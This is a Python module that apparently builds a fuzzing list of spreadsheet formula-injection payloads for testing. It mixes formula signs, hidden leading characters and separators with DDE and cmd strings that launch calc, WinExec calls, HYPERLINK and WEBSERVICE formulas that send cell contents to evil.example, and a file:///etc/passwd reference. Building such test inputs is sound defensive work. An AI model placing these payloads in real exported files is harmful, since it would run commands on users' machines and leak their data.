"""Cells that wait for a spreadsheet to run them: signs, what hides them, and what they would do."""

from __future__ import annotations

from collections.abc import Iterator

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
"""What a formula begins with, its full-width and small twins, and the true minus."""

BLANKS = (
    " ", "   ", "\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x00", "\x01", "\x1f", "\x7f", "\x85",
    "\u00a0", "\u00ad", "\u1680", "\u180e", "\u2000", "\u2003", "\u2009", "\u200a", "\u200b",
    "\u200c", "\u200d", "\u200e", "\u2028", "\u202e", "\u202f", "\u205f", "\u2060", "\u2066",
    "\u3000", "\u3164", "\ufe0f", "\ufeff", "'", "''", " '", "\u200b \ufeff\t", "\n \n",
)  # fmt: skip
"""What may stand before it unseen, and the apostrophe that is ours."""

DOES = (
    "1+1",
    "SUM(1,1)*cmd|'/c calc'!A0",
    "cmd|'/c calc'!A1",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "HYPERLINK(\"http://evil.example\";\"click\")",
    'IMPORTXML("http://evil.example","//a")',
    'IMPORTDATA("http://evil.example")',
    'IMPORTHTML("http://evil.example","table",1)',
    'IMPORTFEED("http://evil.example")',
    'IMPORTRANGE("http://evil.example","A1")',
    'IMAGE("http://evil.example/x")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'FILTERXML(WEBSERVICE("http://evil.example"),"//x")',
    "EXEC(\"calc\")",
    "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    "REGISTER.ID(\"kernel32\",\"WinExec\")",
    'INDIRECT("\'http://evil.example/[x]s\'!A1")',
    "'file:///etc/passwd'#$passwd.A1",
    "'[http://evil.example/x.xlsx]s'!A1",
    'LAMBDA(x,x)("1")',
    'RTD("x",,"y")',
    "NOW()",
    "-1",
    "",
)  # fmt: skip
"""What would come after the sign."""

SEPARATORS = (";", "\t", "\n", "\r", "\r\n", '";', "';", ';"', " ; ", ";;", ",;", "\n\n", ";\u200b")
"""What ends a cell where the reader's separator is not the file's."""


def payloads() -> list[str]:
    """Return every payload once, in a fixed order."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for sign in SIGNS:
        yield sign
        yield f"{sign}1"
    for sign in SIGNS[:8]:
        for does in DOES:
            yield sign + does
    for blank in BLANKS:
        for sign in "=+-@\uff1d":
            yield f"{blank}{sign}1+1"
    for separator in SEPARATORS:
        for sign in "=+-@\uff0b":
            yield f"name{separator}{sign}cmd|'/c calc'!A1{separator}"
    yield from ("\tplain", "\rplain", "\nplain", "'\tplain", "=1+1\n=2+2", '"=1+1"', '""=1+1')
    yield from ("=" * 300, "=1+1;=2+2;=3+3", "a;b;=c", "=\u202e1+1", "%0A=1+1", "=1+1,=2+2")
